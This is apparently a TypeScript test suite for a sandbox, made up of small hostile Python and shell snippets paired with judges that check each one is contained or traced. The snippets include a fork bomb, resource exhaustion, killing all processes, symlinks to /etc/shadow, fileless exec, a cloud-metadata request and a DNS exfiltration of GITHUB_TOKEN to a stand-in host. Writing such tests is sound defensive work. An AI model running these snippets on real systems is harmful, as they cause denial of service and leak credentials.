import type { RunCheck } from '../check.js'
import { count, endsAs, MiB, prints, sees } from './judges.js'

/** Attacks on the bounds of a run and on those who watch it. */
export const runChecks: readonly RunCheck[] = [
  {
    name: 'fork without end',
    language: 'py',
    code: 'import os, time\nn = 0\ntry:\n  while n < 600:\n    if os.fork() == 0: time.sleep(5); os._exit(0)\n    n += 1\nexcept BlockingIOError: pass\nprint(n)\nos.kill(-1, 9)',
    limits: { processes: 64 },
    judge: prints(/^(?:[1-9]|[1-9]\d)$/),
  },
  {
    name: 'take memory',
    language: 'py',
    code: 'x = []\nwhile True: x.append(bytearray(8 << 20))',
    limits: { memoryBytes: 200 * MiB },
    judge: endsAs('memory'),
  },
  {
    name: 'fill the disk',
    language: 'py',
    code: 'n = 0\ntry:\n  f = [open("/tmp/f%d" % i, "wb", 0) for i in range(8)]\n  while n < 400:\n    f[n % 8].write(bytes(1 << 20)); n += 1\nexcept OSError as e: print(n, e.errno)',
    limits: { diskBytes: 32 * MiB },
    judge: prints(/^(?:[12]?\d|3[0-2]) 28$/),
  },
  {
    name: 'one file too large',
    language: 'py',
    code: 'import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nn = 0\ntry:\n  f = open("/tmp/f", "wb", 0)\n  while n < 100: f.write(bytes(1 << 20)); n += 1\nexcept OSError as e: print(n, e.errno)',
    limits: { fileBytes: 8 * MiB },
    judge: prints(/^8 27$/),
  },
  {
    name: 'use up the inodes',
    language: 'py',
    code: 'n = 0\ntry:\n  while n < 60000: open("/tmp/%d" % n, "w").close(); n += 1\nexcept OSError as e: print(n < 60000, e.errno)',
    limits: { diskInodes: 900 },
    judge: prints(/^True 28$/),
  },
  {
    name: 'fill the shared memory',
    language: 'py',
    code: 'n = 0\ntry:\n  f = open("/dev/shm/f", "wb", 0)\n  while n < 256: f.write(bytes(1 << 20)); n += 1\nexcept OSError as e: print(n, e.errno)',
    limits: { diskBytes: 32 * MiB },
    judge: prints(/^\d\d? 28$/),
  },
  {
    name: 'use up the descriptors',
    language: 'py',
    code: 'n = 0\nf = []\ntry:\n  while n < 5000: f.append(open("/dev/null")); n += 1\nexcept OSError as e: print(n, e.errno)',
    limits: { openFiles: 128 },
    judge: prints(/^1[012]\d 24$/),
  },
  {
    name: 'flood the output',
    language: 'sh',
    code: 'yes',
    limits: { outputBytes: 4 * MiB },
    judge: endsAs('output-flood'),
  },
  {
    name: 'flood the trace',
    language: 'sh',
    code: 'while :; do : > /tmp/x; done',
    limits: { traceLines: 2000 },
    judge: endsAs('event-flood'),
  },
  {
    name: 'hang and ignore every signal',
    language: 'py',
    code: 'import signal, time\nfor s in range(1, 32):\n  try: signal.signal(s, signal.SIG_IGN)\n  except OSError: pass\nwhile True: time.sleep(1)',
    limits: { wallMs: 500 },
    judge: endsAs('timeout'),
  },
  {
    name: 'stop itself',
    language: 'sh',
    code: 'kill -STOP $$',
    limits: { wallMs: 500 },
    judge: endsAs('timeout'),
  },
  {
    name: 'outlive the run as a daemon',
    language: 'py',
    code: 'import os, time\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    for fd in (0, 1, 2): os.close(fd)\n    time.sleep(60)\n  os._exit(0)\nprint("gone")',
    judge: endsAs('completed'),
  },
  {
    name: 'kill everything it can reach',
    language: 'py',
    code: 'import os\nfor pid in range(1, 400):\n  if pid != os.getpid():\n    try: os.kill(pid, 9)\n    except OSError: pass\nprint("alive")',
    judge: endsAs('completed', 'signal', 'nonzero'),
  },
  {
    name: 'hide behind odd file names',
    language: 'py',
    code: 'open("/tmp/a\\nb\\x1b[31m) = 0", "w").write("x"); open(b"/tmp/\\xff\\xfe", "w").write("x")',
    judge: sees('both files, one line each', (result) => {
      const paths = result.trace.events.map((event) => event['file.path'])
      return paths.includes('/tmp/a\nb\u001b[31m) = 0') && paths.includes('/tmp/\ufffd\ufffd')
    }),
  },
  {
    name: 'point at files of the host',
    language: 'sh',
    code: 'ln -s /etc/shadow ~/shadow; ln -s /proc/self/environ ~/environ; mkfifo ~/pipe',
    judge: sees('links not followed, pipe not opened', (result) => {
      const written = result.trace.events.filter((event) => event['source.engine'] === 'snapshot')
      return count(result, 'file.link') === 2 && written.every((event) => event.kind === 'run.gap')
    }),
  },
  {
    name: 'run from memory',
    language: 'py',
    code: 'import os\nfd = os.memfd_create("x")\nos.write(fd, open("/bin/true", "rb").read())\nos.execve(fd, ["x"], {})',
    judge: sees('an exec without a file', (result) =>
      result.trace.events.some((event) => event['process.fileless'] === true),
    ),
  },
  {
    name: 'make a forbidden call',
    language: 'py',
    code: 'import ctypes\nctypes.CDLL(None).mount(b"x", b"/tmp", b"tmpfs", 0, 0)',
    judge: sees('syscall.denied', (result) => count(result, 'syscall.denied') === 1),
  },
  {
    name: 'ask for cloud credentials',
    language: 'py',
    code: 'import urllib.request\nprint(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=3).status)',
    judge: sees('the request to the metadata address', (result) =>
      result.trace.events.some(
        (event) => event.kind === 'http.request' && event['network.peer.address'] === '169.254.169.254',
      ),
    ),
  },
  {
    name: 'carry a secret out through names',
    language: 'py',
    code: 'import os, socket\nv = os.environ["GITHUB_TOKEN"].encode().hex()\nfor i in range(0, len(v), 40):\n  try: socket.gethostbyname(v[i:i + 40] + ".t.example")\n  except OSError: pass',
    judge: sees('the planted value', (result) =>
      result.trace.events.some(
        (event) => event.kind === 'canary.leak' && event['canary.source'] === 'env:GITHUB_TOKEN',
      ),
    ),
  },
  {
    name: 'send raw datagrams',
    language: 'py',
    code: 'import socket, time\nsocket.socket(2, 2).sendto(b"beacon", ("203.0.113.9", 9999)); time.sleep(0.1)',
    judge: sees('the datagram and where it was meant to go', (result) =>
      result.trace.events.some(
        (event) => event.kind === 'net.send' && event['network.peer.address'] === '203.0.113.9',
      ),
    ),
  },
]
